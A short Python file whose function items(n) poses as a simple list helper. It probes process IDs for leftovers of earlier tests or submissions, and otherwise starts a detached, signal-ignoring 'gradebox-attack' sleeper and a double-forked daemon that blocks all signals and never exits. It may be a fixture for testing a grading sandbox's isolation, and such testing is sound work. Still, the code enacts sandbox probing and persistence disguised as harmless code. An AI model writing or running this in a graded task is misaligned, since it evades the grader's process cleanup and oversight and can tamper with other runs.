import os
import signal
import subprocess
import sys

SLEEPS = "import signal, time; [signal.signal(k, signal.SIG_IGN) for k in (1, 2, 15)]; time.sleep(600)"


def items(n):
    # Whoever is left of the other tests, or of the submission before: a signal of no effect reaches it.
    for pid in range(2, 400):
        try:
            os.kill(pid, 0)
        except ProcessLookupError:
            continue
        return pid
    subprocess.Popen([sys.executable, "-c", SLEEPS, "gradebox-attack"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
            os.closerange(0, 64)
            while True:
                signal.pause()
        os._exit(0)
    return list(range(n))
